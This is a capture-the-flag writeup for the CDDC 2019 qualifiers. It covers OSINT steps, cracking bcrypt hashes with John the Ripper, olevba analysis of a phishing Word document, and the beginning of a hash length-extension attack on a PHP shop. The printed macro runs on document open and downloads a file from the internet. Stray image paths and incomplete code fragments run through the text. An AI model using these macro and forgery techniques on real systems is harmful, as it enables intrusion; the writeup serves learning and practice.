Cyber Defenders Discovery Camp 2019 Qualifiers

Writeup of Challenges Solved for CDDC 2019 Qualifiers

A team of friends and I participated in the qualifiers for the Cyber Defenders Discovery Camp (CDDC) 2019. Writeups for the challenges we solved arefound below with the exceptionof LSCVM-ii because it will be reused in the finals.

Just a foreword- my team: Soon Keat, Isaac, Yong Chuan were *ahem* brought along on an adventure during this CTF because some of them did not think they were up to the task. After the qualifiers, I can confidently say that my team has exceeded my expectations with our overall performance. Everyone played to their strengths and solved what they could.

For those who are new to this and find the challenges hard and find themselves out of their league, my only advise is to practice more, participate in more CTFs and just keep getting stuck.

Only by getting stuck repeatedly will you learn how to move on when you don't know what to do - a very common if not the most state in a CTF :)

After the CTF, pick a few (or even just 1)challenges that got you stumped and find writeups for them. Understand (and preferably develop your own attack for the challenge) the writeup, the methods used, why they work, why they dont work so that you are never stumped by the same thing again.

[R-0] Everyone <3 Fan Mail

WHOIS the domain. As the registry may not hold the registrant contact information, we will also need to WHOIS the registrar to see if they will give it to us. Once we query the registrar, we find the email addresses of the domain contacts.

WHOIS Information for

Since the domain is not under any WHOIS protection, etc, we can email him directly. And since he loves to reply to fan mail, it seems he will give us the flag directly.

Email Response

[R-1] Travel to the Past

Using the Wayback Machine:

[R-2] I’m Sho Done With This

Searching LightSpeedCorp on Shodan reveals an interesting string:

Reversing “}U-gnihc7aW-er4-sreht0rB-hc3T-g1B{$91CDDC$” gives us the flag.

[R-3-1] Have They Been Pwned?

Searching LightSpeedCorp on Yandex reveals there was a recon project, and returns a Pastebin:

Inside it, there is a hex string “24 43 44 44 43 31 39 24 7B 37 48 30 75 5F 48 34 73 54 5F 4C 33 41 72 4E 33 44 5F 32 5F 47 30 30 30 47 4C 45 7D”. Converting it to ASCII reveals the flag.

[R-3-2] cHash Me Outside How 'Bout Dat

Inside the hacker’s Pastebin account is apassword dump document:

We run the passwords against John the Ripper with the standard rockyou.txt wordlist.

PS > .\john chash.txt --wordlist rockyou.txt
Using default input encoding: UTF-8
Loaded 15 password hashes with 15 different salts (bcrypt [Blowfish 32/64 X3])
Cost 1 (iterationcount) is 4096 for all loaded hashes
Will run 4 OpenMP threads
Press 'q' or Ctrl-C to abort, almost any other key for status
123123           (?)
princesa         (?)
patricia         (?)
september        (?)
christopher      (?)
britney          (?)
savannah         (?)
rocky            (?)
martha           (?)
simpsons         (?)
pickles          (?)
starlight        (?)
dragon1          (?)
moocow           (?)

As the password could be any one of them, we had to guess. Turned out to be starlight.

[R-4-1] Where I Get All My Memes From

Since we know the administrator’s name and email, we can look him up on one of the major social networking sites. Turns out, he had a Twitter handle , and the flag was in his bio.

[R-4-1-2] Don't Be A Git

Linus Torvalds has a colleague he was conversing with, Sjang Heinhuis. They also have another colleague, Bobby Hashlinger. Inside Bobby’s tweets was a link to a Github profile belonging to Sjang, linking to a d4rkspeedcorp-framework.

Reversing the line reveals the flag: $CDDC19${D0n7_b3_5cAr3D_0f_c0MM1tM3nT5}

[B-0] What's in, Doc?We were given a Microsoft Word document. Since Office files are archives, 7z opens them easily:

Two weird things pop up: the chatlog and Light_speed_corp_logo_pink_team.xml are definitely not part of a standard documentarchive.

While the chatlog does not contain anything useful, the pink_team.xml file looks interesting:

The file has a binary header, what does file say it is?

justin@kali:~/cddc19$ file Light_speed_corp_logo_pink_team.xml
Light_speed_corp_logo_pink_team.xml: JPEG image data, JFIF standard 1.02, resolution (DPI), density 300x300, segment length 16, baseline, precision 8, 3509x2481, components 3

Looks like its a jpg. Open it in a image viewer after renaming it:

[B-1] Fight the Binary Monster

A console-based .exe was provided. Taking a look inside with IDA, we see two pastebin links:

A tree is present in the second link:

The flag can be extracted by reading the nodes from left to right (numbers have been added to show the order): $CDDC19${havesometrees}[B-2] I <3000 PHISH

Suspicious document (job-requirements.docm) - let’s take a look at macros in the document then.

justin@kali:~/cddc19$ olevba --reveal job-requirements.docm
olevba 0.54.2 on Python 2.7.16 -
FILE: job-requirements.docm
Type: OpenXML
VBA MACRO ThisDocument.cls
in file: word/vbaProject.bin - OLE stream: u'VBA/ThisDocument'
- - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -
...snip irrelevant content...

VBA MACRO NewMacros.bas
in file: word/vbaProject.bin - OLE stream: u'VBA/NewMacros'
- - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -
(empty macro)
|Type      |Keyword             |Description                                  |
|AutoExec  |Document_Open       |Runs when the Word or Publisher document is  |
|          |                    |opened                                       |
|Suspicious|CreateObject        |May create an OLE object                     |
|Suspicious|ADODB.Stream        |May create a text file                       |
|Suspicious|SaveToFile          |May create a text file                       ||Suspicious|Environ             |May read system environment variables        |
|Suspicious|Write               |May write to a file (if combined with Open)  |
|Suspicious|Output              |May write to a file (if combined with Open)  |
|Suspicious|Print #             |May write to a file (if combined with Open)  |
|Suspicious|Open                |May open a file                              |
|Suspicious|Chr                 |May attempt to obfuscate specific strings    |
|          |                    |(use option --deobf to deobfuscate)          ||Suspicious|Microsoft.XMLHTTP   |May download files from the Internet         |
|Suspicious|Base64 Strings      |Base64-encoded strings were detected, may be |
|          |                    |used to obfuscate strings (option --decode to|
|          |                    |see all)                                     |
|Suspicious|VBA obfuscated      |VBA string expressions were detected, may be |
|          |Strings             |used to obfuscate strings (option --decode to|
|          |                    |see all)                                     |
|IOC       ||URL                                          |
|          |/                   |                                             |
|VBA string|%temp%\lightspeed.tx|Environ("temp") + "\" + Chr(108) + "i" +     |
|          |t                   |Chr(103) + "h" + Chr(116) + "speed" + Chr(46)|
|          |                    |+ Chr(116) + "x" + Chr(116)                  |
|VBA string|                    |Chr$(13) & Chr$(10)                          |

Sub Document_Open()

Dim filePath As String, myURL As String, myPath As String
filePath = "%temp%\lightspeed.txt"
myURL = ""
myPath ="raw/J6YCXPCM"

Dim WinHttpReq As Object
Set WinHttpReq = CreateObject("Microsoft.XMLHTTP")
WinHttpReq.Open "GET", myURL + myPath, False

myURL = WinHttpReq.ResponseBody
If WinHttpReq.Status = 200 Then
    Set oStream = CreateObject("ADODB.Stream")
    oStream.Type = 1
    oStream.Write WinHttpReq.ResponseBody
    oStream.SaveToFile filePath, 2
End If

Dim text As String, textline As String, posLat As Integer, posLong As Integer
Open filePath For Input As #1
Do Until EOF(1)
    Line Input #1, textline
    text = text & textline & "
Close #1

Open filePath + ":woohoo.txt" For Output As #1
Print #1, text + "w.i.t.f.t.f.i.h.b.i.l.s.d.y.l.s.t.s.w.c.y.........w.........f.i.?.......g.b.m............n.h"
Print #1,"h.s.h.l.h.l.s.e.e...o.a.o.o.o.a.o.o.h.a.o.........h.........i.t.?.......o.a.o............o.e"
Print #1, "e...e.a.e.a...r.c...v.l...u.v.l.o.m.e.n.u.........o.........n...?.........c.r............t.r"
Print #1, "r.....g...g...e.a...e.m.....e.m.?.e.r.............o.........d...?.........k.e..............e"
Print #1, "e...............u.....o.......o.....e.............p..."
Print #1, "................s.....n.......n...................s..."
Print #1, "................e.....!..."
Print #1, "}}}"
Close #1

End Sub

Attribute VB_Name = "NewMacros"

Some weird script that downloads a file from pastebin, concatenates another chunk to it and writes it to an alternate data stream at %temp%\lightspeed.txt:woohoo.txt.

Taking a look at the file created with Get-Content -Path %TEMP%\lightspeed.txt -stream woohoo.txt:

The flag can be found by reading the only complete column.

[B-3-1] Onion Sauce

We were given a .onion URL: ctfsg4bndpw6xurhitwa2dh66ycorghoa2ym3s3s4g3bgxqs3veaf4ad.onion. Visiting it with Tor resulted in a page filled with HTML breaks. Stripping them out with Find and Replace displays the flag.

[B-3-2] When Your ZIL Turns to NIL :'(

Pivoting from the wallet address in B-3-1, we look up the address on a viewer:

The sender and value of the highlighted transaction is likely theone we’re interested in and form the flag:$CDDC19${0xE04E2AFC438BC0CE5D0B235607E66B2296778F44+0.02019}

[B-4-1] Where I Get All My GIFs From

From B-2, we found a name in the Author field of the document: "Caomhainn MacRob"

Thus, from here, we are able to scour through social media for people with the same name. And we find a match on Twitter with the flag in his bio:

[B-4-2] Hide N Seek

Taking a look at the profile of Caomhainn MacRob using an online viewer, we see that a link to another tweet is provided:

Upon clicking on that link, we are lead to another profile with the flag.

Not FairPrice, but FairPlay

Given an HTML page with some cipher text and a QR code:

<h1>Do you want a flag?</h1>
<a href="javascript:alert('F_NGNU_KNDV_NQ_LHUBWYFTY')"><img src="fairplay_qrcode.png"></a>
<h1>Here you go!</h1
Making Use of the Great Tool CyberChef:

Using a Playfair cipher solver with the two strings gives us the flag (afterputting back the underscores): $CDDC19${A_FAIR_PLAY_IS_IMPORTANT}


Given a web application we poke around and see a debug_mode flag we can set to get the following source:

if (isset($_GET["prod_code"])) {
    $req_prod_code = $_GET["prod_code"];

    foreach (array_keys($ITEMS) as $prod_code) {
        if ($prod_code === $req_prod_code) {
            $set_prod_code = base64_encode($req_prod_code);
            $set_transaction_hash = $ITEMS[$req_prod_code]["hash"];
            $set_time = time()+3600;

            @setcookie("prod_code", $set_prod_code,$set_time, "/");
            @setcookie("transaction_hash", $set_transaction_hash, $set_time, "/");
            $_COOKIE["prod_code"] = $set_prod_code;
            $_COOKIE["transaction_hash"] = $set_transaction_hash;

if (isset($_COOKIE["prod_code"]) && isset($_COOKIE["transaction_hash"])) {
    $prod_code = base64_decode($_COOKIE["prod_code"]);
    $transaction_hash =$_COOKIE["transaction_hash"];

    if (hash("sha512",$PRIVATE_KEY.$prod_code) === $transaction_hash) {
        $set_time = time()+3600;

        switch ($prod_code) {
                echo "Success: {$ITEMS[$prod_code]["msg"]}";
                @setcookie("prod_code", "", $set_time, "/");
                @setcookie("transaction_hash", "", $set_time, "/");
                echo "{$FLAG}";
} else {
    echo "Error: Transaction hash is invalid.";

The functionality of the page can be summarised into the following:Given a product code, the page retrieves a corresponding transaction hash (which is sha512(private_key + product_code)).

However, the flag is only printed when product_code is not 94-04-3QmM-ulP-c0z-k or W8-31-5053-0kX-QiL-1.

The challenge here is thus to provide aproduct code and the corresponding transaction hash without knowing the private key.

This can be accomplished through a hash extension attack: Given

sha512($key + $message) = $hash)

where the values of $message and $hash are known, an attacker can calculate

